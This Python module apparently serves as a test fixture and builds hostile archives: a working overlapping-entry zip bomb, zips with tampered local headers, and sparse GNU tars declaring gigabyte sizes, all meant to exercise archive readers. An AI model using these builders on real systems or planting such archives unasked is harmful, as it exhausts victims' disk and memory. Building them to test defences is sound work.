"""Hostile archives built byte by byte: overlapping-entry zip bombs (Fifield 2019), zips whose
local headers disagree with their central directory, tars of sparse members.

Each builder returns the archive's bytes; none materialises what the archive expands to.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zlib

LOCAL = struct.Struct("<4s5H3L2H")
CENTRAL = struct.Struct("<4s6H3L5H2L")
END = struct.Struct("<4s4H2LH")
MiB = 1 << 20


def _zeros_crc(n: int):
    """``start -> crc32(bytes(n), start)`` without reading ``n`` zeros each time: the CRC of
    a fixed run of bytes is an affine function of the starting CRC over GF(2)."""
    zeros = bytes(n)
    base = zlib.crc32(zeros, 0)
    columns = [zlib.crc32(zeros, 1 << j) ^ base for j in range(32)]

    def crc(start: int) -> int:
        out = base
        for j in range(32):
            if start >> j & 1:
                out ^= columns[j]
        return out

    return crc


def overlapping_zip(n_files: int = 1200, kernel_bytes: int = MiB) -> bytes:
    """Fifield's "better zip bomb" (full overlap, quoted local headers): the data of entry
    ``i`` is a stored deflate block quoting the local header of entry ``i+1``, then entry
    ``i+1``'s data, down to one shared kernel of ``kernel_bytes`` zeros. Every entry is a
    valid deflate member with the right CRC and sizes; their bytes overlap. 1 200 entries
    over a 1 MiB kernel: about 108 KB that expand to about 1.2 GiB plus the quotes."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = c.compress(bytes(kernel_bytes)) + c.flush()
    zeros_crc = _zeros_crc(kernel_bytes)
    names = [b"%04d" % i for i in range(n_files)]
    headers: list[bytes] = [b""] * n_files
    csize, usize = len(kernel), kernel_bytes
    quoted = b""  # local headers i+1 .. n-1, as they appear in entry i's output
    for i in range(n_files - 1, -1, -1):
        crc = zeros_crc(zlib.crc32(quoted))
        headers[i] = LOCAL.pack(b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, csize, usize,
                                len(names[i]), 0) + names[i]
        quoted = headers[i] + quoted
        csize += 5 + len(headers[i])
        usize += len(headers[i])
    out = io.BytesIO()
    offsets = []
    for i, header in enumerate(headers):
        offsets.append(out.tell())
        out.write(header)
        if i + 1 < n_files:  # a non-final stored block quoting the next local header
            n = len(headers[i + 1])
            out.write(b"\x00" + struct.pack("<2H", n, n ^ 0xFFFF))
    out.write(kernel)
    central = io.BytesIO()
    for header, offset in zip(headers, offsets, strict=True):
        (_sig, _ver, flags, method, time, date, crc, cs, us, n_name,
         _n_extra) = LOCAL.unpack_from(header)
        central.write(CENTRAL.pack(b"PK\x01\x02", (3 << 8) | 20, 20, flags, method, time, date,
                                   crc, cs, us, n_name, 0, 0, 0, 0, 0o100644 << 16, offset))
        central.write(header[LOCAL.size:])
    cd_offset = out.tell()
    out.write(central.getvalue())
    out.write(END.pack(b"PK\x05\x06", 0, 0, n_files, n_files, len(central.getvalue()),
                       cd_offset, 0))
    return out.getvalue()


def local_headers(data: bytes) -> list[int]:
    """Offsets of the local headers of a zip written by :mod:`zipfile` (in order)."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [info.header_offset for info in zf.infolist()]


def tampered_zip(members: dict[str, bytes], victim: str, field: str, value: object) -> bytes:
    """A zip (deflated, by :mod:`zipfile`) whose member ``victim`` has one field of its local
    header changed: ``name`` (bytes of the same length), ``method``, ``crc``, ``usize``,
    ``csize`` or ``flags``."""
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    data = bytearray(buf.getvalue())
    at = local_headers(bytes(data))[list(members).index(victim)]
    fields = {"flags": (6, "<H"), "method": (8, "<H"), "crc": (14, "<L"), "csize": (18, "<L"),
              "usize": (22, "<L")}
    if field == "name":
        assert isinstance(value, bytes) and len(value) == len(victim.encode())
        data[at + LOCAL.size : at + LOCAL.size + len(value)] = value
    else:
        offset, fmt = fields[field]
        struct.pack_into(fmt, data, at + offset, value)
    return bytes(data)


def sparse_tar(n_members: int = 20, apparent: int = 1 << 30, data: bytes = b"") -> bytes:
    """A GNU tar of ``n_members`` sparse members, each declaring ``apparent`` bytes (holes of
    zeros) but storing only ``data`` (at most one 512-byte block): a few KB that a reader
    filling in the holes expands to ``n_members`` x ``apparent`` bytes."""
    out = io.BytesIO()
    stored = data.ljust(512, b"\x00") if data else b""
    for i in range(n_members):
        info = tarfile.TarInfo(f"sparse{i:03}.bin")
        info.type = tarfile.GNUTYPE_SPARSE
        info.size = len(stored)  # bytes stored in the archive
        header = bytearray(info.tobuf(tarfile.GNU_FORMAT))
        # Old GNU sparse header: 4 (offset, numbytes) pairs at 386, isextended at 482,
        # realsize at 483 (12-byte octal fields).
        def octal(n: int, width: int = 12) -> bytes:
            return b"%0*o\x00" % (width - 1, n)
        if stored:
            header[386:398] = octal(apparent - len(stored))
            header[398:410] = octal(len(stored))
        header[482] = 0
        header[483:495] = octal(apparent)
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\x00 " % sum(header[:512])
        out.write(bytes(header[:512]))
        out.write(stored)
    out.write(bytes(1024))
    return out.getvalue()
